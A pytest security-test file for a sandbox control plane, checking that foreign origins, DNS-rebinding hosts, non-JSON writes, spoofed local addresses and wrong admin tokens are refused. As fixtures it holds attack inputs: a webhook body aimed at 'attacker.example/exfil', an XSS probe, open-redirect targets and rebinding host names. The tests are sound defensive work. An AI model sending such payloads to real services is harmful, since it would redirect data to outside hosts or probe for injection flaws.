"""The control plane's trust boundary, tried as an attacker's page, a rebinding name and a stranger would.

Every route of the control plane, the pages and the OpenAPI documents comes from ``app.url_map``, so a route
added later is covered at once. Refusals must change nothing: a fingerprint of the whole steerable state is
taken before and after.
"""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from sandbox import create_app
from sandbox.config import TEST_CONFIG, from_environment
from sandbox.trust import ADMIN_COOKIE, GUARDED_BLUEPRINTS, host_name, safe_next
from tests.conftest import api_specs, auth_headers, sample_get_paths
from tests.test_cli import Server

ROOT = Path(__file__).resolve().parent.parent
EVIL = "https://evil.example"
REMOTE = {"REMOTE_ADDR": "10.1.2.3"}
WRITES = ("POST", "PUT", "PATCH", "DELETE")
ATTACK_BODY = '{"api": "*", "status": 503, "url": "http://attacker.example/exfil"}'
PATH_VALUES = {"name": "snap", "subscription_id": "1", "fault_id": "1", "filename": "dashboard.js"}


def guarded_routes(app) -> list[tuple[str, str]]:
    """(method, concrete URL) for every route behind the guard: /__sandbox/... and every OpenAPI document."""
    zone = {"control", "sandbox_ui", "sandbox_login", *GUARDED_BLUEPRINTS}
    routes = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint.split(".")[0] not in zone:
            continue
        url = re.sub(r"<(?:[^:>]+:)?([^>]+)>", lambda m: PATH_VALUES.get(m.group(1), "appx"), rule.rule)
        routes += [(method, url) for method in sorted(rule.methods - {"HEAD", "OPTIONS"})]
    assert len(routes) > 30 and any(url.endswith("/openapi.json") for _, url in routes)
    return routes


def fingerprint(client) -> list:
    """Everything a control-plane write could change, read without an Origin (as a test suite would)."""
    return [client.get(url).get_json() for url in (
        "/__sandbox/state", "/__sandbox/faults", "/__sandbox/webhooks", "/__sandbox/snapshots",
        "/__sandbox/clock", "/__sandbox/sessions", "/__sandbox/webhooks/outbox")]


@pytest.fixture
def steady(client):
    """A client whose clock is frozen, so that two fingerprints of an unchanged sandbox are equal."""
    assert client.put("/__sandbox/clock", json={"now": "2025-03-31T09:00:00Z"}).status_code == 200
    return client


def assert_refused(response, rule: str, status: int = 403):
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True)[:300])
    assert response.headers["X-Sandbox-Rule"] == f"control.{rule}"
    body = response.get_json()
    assert body["error"] and rule in body["message"] if status == 403 else body["error"] == "Unauthorized"
    assert "Access-Control-Allow-Origin" not in response.headers


# -- Origin -------------------------------------------------------------------------------------------
def test_a_foreign_origin_is_refused_on_every_route_and_changes_nothing(app, steady):
    before = fingerprint(steady)
    for method, url in guarded_routes(app):
        preflight = steady.options(url, headers={"Origin": EVIL, "Access-Control-Request-Method": method,
                                                 "Access-Control-Request-Headers": "content-type"})
        if url == "/__sandbox/health":     # open to every client, but no page elsewhere reads it either
            assert "Access-Control-Allow-Origin" not in preflight.headers
        else:
            assert_refused(preflight, "origin-allowed")
        for content_type in ("text/plain", "application/json"):   # JSON: as if a preflight had passed
            response = steady.open(url, method=method, data=ATTACK_BODY, content_type=content_type,
                                   headers={"Origin": EVIL})
            if url == "/__sandbox/health":
                assert "Access-Control-Allow-Origin" not in response.headers
            else:
                assert_refused(response, "origin-allowed")
    assert fingerprint(steady) == before


def test_the_allow_list_of_the_apis_does_not_open_the_control_plane():
    """The issue's case: SANDBOX_CORS_ORIGINS names the frontend, and a text/plain webhook subscription was 201."""
    client = create_app({**TEST_CONFIG, "CORS_ORIGINS": "http://localhost:5173"}).test_client()
    for url, body in (("/__sandbox/webhooks", '{"api": "slyk", "url": "http://attacker/exfil"}'),
                      ("/__sandbox/faults", '{"api": "*", "status": 503}')):
        assert_refused(client.post(url, data=body, content_type="text/plain",
                                   headers={"Origin": "http://localhost:5173"}), "origin-allowed")
    assert client.get("/__sandbox/webhooks").get_json()["webhooks"] == []
    assert client.get("/__sandbox/faults").get_json()["faults"] == []


def test_the_sandbox_own_origin_and_listed_origins_may_steer_it():
    client = create_app({**TEST_CONFIG, "CONTROL_ORIGINS": "http://localhost:5173, https://qa.example"}).test_client()
    for origin in ("http://localhost", "http://localhost:5173", "https://qa.example"):   # the test client's Host
        response = client.post("/__sandbox/faults", json={"api": "*", "status": 503, "times": 1},
                               headers={"Origin": origin})
        assert response.status_code == 201, origin
    assert client.get("/__sandbox/state", headers={"Origin": "https://qa.example"}).headers[
        "Access-Control-Allow-Origin"] == "https://qa.example"
    # The sandbox's own page needs no CORS header; a page elsewhere is refused, reads too.
    own = client.get("/__sandbox/state", headers={"Origin": "http://localhost"})
    assert own.status_code == 200 and "Access-Control-Allow-Origin" not in own.headers
    assert_refused(client.get("/__sandbox/state", headers={"Origin": EVIL}), "origin-allowed")
    assert_refused(client.post("/__sandbox/reset", headers={"Origin": "null"}), "origin-allowed")
    assert_refused(client.post("/__sandbox/reset", headers={"Origin": "http://localhost.evil.example"}),
                   "origin-allowed")


@pytest.mark.parametrize("spec", api_specs(), ids=lambda s: s.name)
def test_the_apis_keep_cors_for_every_origin(app, client, spec):
    path = sample_get_paths(app, spec)[0]
    response = client.get(path, headers={"Origin": EVIL, **auth_headers(spec)})
    assert response.headers["Access-Control-Allow-Origin"] in ("*", EVIL)
    preflight = client.options(path, headers={"Origin": EVIL, "Access-Control-Request-Method": "POST"})
    assert preflight.status_code == 200 and preflight.headers["Access-Control-Allow-Origin"]


# -- JSON bodies only -----------------------------------------------------------------------------------
@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded",
                                          "multipart/form-data; boundary=x", None])
def test_a_write_whose_body_is_not_json_is_refused_and_changes_nothing(app, steady, content_type):
    before = fingerprint(steady)
    for method, url in guarded_routes(app):
        login_form = url.startswith("/__sandbox/log") and "urlencoded" in (content_type or "")
        if method in WRITES and not login_form:
            response = steady.open(url, method=method, data=ATTACK_BODY,
                                   headers={} if content_type is None else {"Content-Type": content_type})
            assert_refused(response, "body-json")
    assert fingerprint(steady) == before


def test_a_write_without_a_body_or_with_json_is_served(client):
    assert client.post("/__sandbox/reset").status_code == 200                     # curl -X POST
    assert client.post("/__sandbox/faults", data=b'{"api": "*", "status": 503, "times": 1}',
                       content_type="application/json; charset=utf-8").status_code == 201


# -- Host (DNS rebinding) ---------------------------------------------------------------------------------
def test_a_rebinding_host_is_refused_on_every_route(app, steady):
    before = fingerprint(steady)
    for method, url in guarded_routes(app):
        response = steady.open(url, method=method, json={}, headers={"Host": "rebind.attacker.example:8080"})
        if url == "/__sandbox/health":     # container probes use any name; it reveals the version only
            assert response.status_code == 200
        else:
            assert_refused(response, "host-allowed")
    assert fingerprint(steady) == before


@pytest.mark.parametrize("host", ["localhost:8080", "LOCALHOST.", "127.0.0.1:8080", "[::1]:8080", "app.localhost",
                                  "10.0.0.7:8080", "[fd00::5]", "sandbox:8080", "qa.test.example"])
def test_loopback_names_addresses_and_listed_hosts_are_served(host):
    client = create_app({**TEST_CONFIG, "ALLOWED_HOSTS": "sandbox, .test.example"}).test_client()
    assert client.get("/__sandbox/state", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize("host", ["rebind.attacker.example", "localhost.attacker.example", "127.0.0.1.nip.io",
                                  "evil.example\x00", "a b", "[::1", "localhost:abc", "ü.example", "x" * 5000, ""])
def test_other_names_and_malformed_hosts_are_refused(host):
    client = create_app(TEST_CONFIG).test_client()
    response = client.post("/__sandbox/reset", environ_overrides={"HTTP_HOST": host})
    assert response.status_code in (400, 403) and client.get("/__sandbox/health").status_code == 200


@pytest.mark.parametrize("origin", ["http://[", "http://localhost:80", "ü", "", "x" * 100_000,
                                    "http://localhost\x00"])
def test_malformed_origins_are_foreign(client, origin):
    assert_refused(client.post("/__sandbox/reset", headers={"Origin": origin}), "origin-allowed")


def test_the_bound_name_is_served_and_health_answers_any_name():
    client = create_app({**TEST_CONFIG, "HOST": "devbox.lan"}).test_client()
    assert client.get("/__sandbox/state", headers={"Host": "devbox.lan:8080"}).status_code == 200
    assert_refused(client.get("/__sandbox/state", headers={"Host": "sandbox:8080"}), "host-allowed")
    assert client.get("/__sandbox/health", headers={"Host": "anything.example"}).status_code == 200


@pytest.mark.parametrize("spec", api_specs(), ids=lambda s: s.name)
def test_the_apis_answer_any_host(app, client, spec):
    response = client.get(sample_get_paths(app, spec)[0], headers={"Host": "api.vendor.example", **auth_headers(spec)})
    assert response.status_code != 403


def test_host_names_are_parsed_like_a_browser_sends_them():
    assert [host_name(h) for h in ("Example.COM:80", "[::1]:8080", "[::1]", "name.", "a:b")] == [
        "example.com", "::1", "::1", "name", "a:b"]
    assert [safe_next(t) for t in ("/__sandbox/?api=appx", "//evil.example", "/\\evil.example", "https://e.x",
                                   None, "/é")] == ["/__sandbox/?api=appx", *["/__sandbox/"] * 5]


# -- the admin token ----------------------------------------------------------------------------------
@pytest.fixture
def locked():
    return create_app({**TEST_CONFIG, "ADMIN_TOKEN": "s3cret"}).test_client()


@pytest.mark.parametrize("token", ["", "s3cre", "s3cret ", "ü", "€uro", "s3cret\u00e9", "\udcff", "x" * 1_000_000,
                                   "s3cret" * 100_000], ids=lambda t: repr(t[:8]) + str(len(t)))
def test_any_wrong_token_is_401_never_500(locked, token):
    assert_refused(locked.get("/__sandbox/state", environ_base=REMOTE, headers={"X-Sandbox-Admin-Token": token}),
                   "admin-token", status=401)
    assert_refused(locked.post("/__sandbox/reset", environ_base=REMOTE, headers={"Cookie": f"{ADMIN_COOKIE}={token}"}),
                   "admin-token", status=401)
    response = locked.post("/__sandbox/login", environ_base=REMOTE, json={"token": token})
    assert response.status_code == 401 and "Set-Cookie" not in response.headers


def test_non_ascii_bytes_in_the_header_are_401():
    """A real client sends raw bytes: WSGI hands them over as latin-1 text."""
    client = create_app({**TEST_CONFIG, "ADMIN_TOKEN": "s3cret"}).test_client()
    raw = "ü€".encode().decode("latin-1")
    assert client.get("/__sandbox/state", environ_base={**REMOTE, "HTTP_X_SANDBOX_ADMIN_TOKEN": raw}).status_code == 401


def test_a_non_ascii_admin_token_matches_the_bytes_a_client_sends():
    client = create_app({**TEST_CONFIG, "ADMIN_TOKEN": "gehéim"}).test_client()
    raw = "gehéim".encode().decode("latin-1")
    assert client.get("/__sandbox/state", environ_base={**REMOTE, "HTTP_X_SANDBOX_ADMIN_TOKEN": raw}).status_code == 200


@pytest.mark.parametrize("spoof", [{"X-Forwarded-For": "127.0.0.1"}, {"Forwarded": "for=127.0.0.1"},
                                   {"X-Real-IP": "127.0.0.1"}, {"Host": "127.0.0.1"}, {"Host": "localhost"}])
def test_a_spoofed_local_address_from_elsewhere_is_401(locked, spoof):
    assert_refused(locked.post("/__sandbox/reset", environ_base=REMOTE, headers=spoof), "admin-token", status=401)


def test_a_preflight_from_an_allowed_origin_needs_no_token():
    client = create_app({**TEST_CONFIG, "ADMIN_TOKEN": "s3cret", "CONTROL_ORIGINS": "http://qa.test"}).test_client()
    response = client.options("/__sandbox/reset", environ_base=REMOTE, headers={
        "Origin": "http://qa.test", "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "X-Sandbox-Admin-Token"})
    assert response.status_code == 200 and response.headers["Access-Control-Allow-Origin"] == "http://qa.test"


# -- /__sandbox/login ---------------------------------------------------------------------------------
def test_a_browser_logs_in_once_and_the_cookie_opens_pages_and_control_plane(locked):
    page = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
    response = locked.get("/__sandbox/?api=appx", environ_base=REMOTE, headers=page)
    assert response.status_code == 303
    assert response.headers["Location"] == "/__sandbox/login?next=/__sandbox/%3Fapi%3Dappx"
    form = locked.get(response.headers["Location"], environ_base=REMOTE)
    assert form.status_code == 200 and 'name="token"' in form.get_data(as_text=True)
    assert 'value="/__sandbox/?api=appx"' in form.get_data(as_text=True)

    wrong = locked.post("/__sandbox/login", environ_base=REMOTE, data={"token": "nope", "next": "/__sandbox/"})
    assert wrong.status_code == 401 and "not the admin token" in wrong.get_data(as_text=True)
    assert locked.get_cookie(ADMIN_COOKIE) is None

    right = locked.post("/__sandbox/login", environ_base=REMOTE,
                        data={"token": "s3cret", "next": "/__sandbox/?api=appx"},
                        headers={"Origin": "http://localhost"})
    assert right.status_code == 303 and right.headers["Location"] == "/__sandbox/?api=appx"
    cookie = right.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie
    assert "s3cret" not in cookie, "the cookie holds a value derived from the token, not the token"
    assert locked.get("/__sandbox/?api=appx", environ_base=REMOTE, headers=page).status_code == 200
    assert locked.get("/__sandbox/assets/dashboard.js", environ_base=REMOTE).status_code == 200
    assert locked.post("/__sandbox/reset", environ_base=REMOTE, json={}).status_code == 200

    assert locked.post("/__sandbox/logout", environ_base=REMOTE).status_code == 303
    assert locked.get_cookie(ADMIN_COOKIE) is None
    assert locked.post("/__sandbox/reset", environ_base=REMOTE).status_code == 401


def test_the_login_form_is_refused_from_another_site_and_never_redirects_away(locked):
    assert_refused(locked.post("/__sandbox/login", environ_base=REMOTE, data={"token": "s3cret"},
                               headers={"Origin": EVIL}), "origin-allowed")
    assert_refused(locked.get("/__sandbox/login", headers={"Host": "rebind.attacker.example"}), "host-allowed")
    away = locked.post("/__sandbox/login", environ_base=REMOTE, data={"token": "s3cret", "next": "//evil.example/x"})
    assert away.status_code == 303 and away.headers["Location"] == "/__sandbox/"
    escaped = locked.get('/__sandbox/login?next=/"><script>alert(1)</script>').get_data(as_text=True)
    assert "<script>alert(1)" not in escaped


def test_without_a_token_the_login_page_says_there_is_nothing_to_do(client):
    assert "No admin token is set" in client.get("/__sandbox/login").get_data(as_text=True)
    response = client.post("/__sandbox/login", data={"token": "anything"})
    assert response.status_code == 303 and "Set-Cookie" not in response.headers


# -- the container ----------------------------------------------------------------------------------
def image_environment() -> dict[str, str]:
    """The ENV line of the Dockerfile, as the image sets it."""
    line = next(line for line in (ROOT / "Dockerfile").read_text().splitlines() if line.startswith("ENV "))
    return dict(pair.split("=", 1) for pair in shlex.split(line[4:]))


def test_the_image_lets_the_compose_service_name_through():
    environment = image_environment()
    assert "sandbox" in environment["SANDBOX_ALLOWED_HOSTS"].split(",")
    assert re.search(r"http://sandbox:8080/", (ROOT / "compose.yaml").read_text())
    client = create_app({**TEST_CONFIG, **from_environment(environment)}).test_client()
    container = {"REMOTE_ADDR": "172.18.0.3"}      # another container on the compose network
    assert client.post("/__sandbox/reset", environ_base=container, headers={"Host": "sandbox:8080"}).status_code == 200
    assert_refused(client.get("/__sandbox/state", environ_base=container,
                              headers={"Host": "rebind.attacker.example:8080"}), "host-allowed")


def compose_client() -> tuple[dict[str, str], str]:
    """The compose example's client: its environment and its Python program, as compose.yaml has them."""
    text = (ROOT / "compose.yaml").read_text()
    client = text[text.index("\n  client:"):]
    environment = dict(re.findall(r"^      ([A-Z_]+): (\S+)$", client[:client.index("command:")], re.M))
    program = client[client.index("- |\n") + 4:]
    return environment, "\n".join(line[8:] for line in program.splitlines())


def test_a_served_sandbox_with_the_image_environment_answers_the_service_name(monkeypatch):
    for name, value in {**image_environment(), "SANDBOX_HOST": "127.0.0.1"}.items():
        monkeypatch.setenv(name, value)       # the server's process inherits them
    server = Server("--host", "127.0.0.1", "--quiet")
    try:
        # The compose client, unchanged, with "sandbox" resolving to this server: its Host is sandbox:<port>.
        client_env, program = compose_client()
        client_env = {name: value.replace("sandbox:8080", f"sandbox:{server.port}")
                      for name, value in client_env.items()}
        resolve_sandbox = ("import socket; _real = socket.getaddrinfo; socket.getaddrinfo = "
                           "lambda host, *a, **k: _real('127.0.0.1' if host == 'sandbox' else host, *a, **k)\n")
        ran = subprocess.run([sys.executable, "-c", resolve_sandbox + program], env={**os.environ, **client_env},
                             capture_output=True, text=True, timeout=30)
        assert ran.returncode == 0 and ran.stdout.strip() == "Awaiting Delivery", ran.stderr
        status, body = server.request("POST", "/__sandbox/reset", {"Host": "sandbox:8080"})
        assert status == 200 and body["reset"]
        status, body = server.request("GET", "/__sandbox/state", {"Host": "rebind.attacker.example:8080"})
        assert status == 403 and "host-allowed" in body["message"]
        status, body = server.request("POST", "/__sandbox/faults", {"Content-Type": "text/plain"})
        assert status == 403 and "body-json" in body["message"]
        status, _ = server.request("GET", "/appx/api/v1/orders/15", {"Host": "whatever.example",
                                                                       "Authorization": "Bearer any-token"})
        assert status == 200
    finally:
        server.stop()
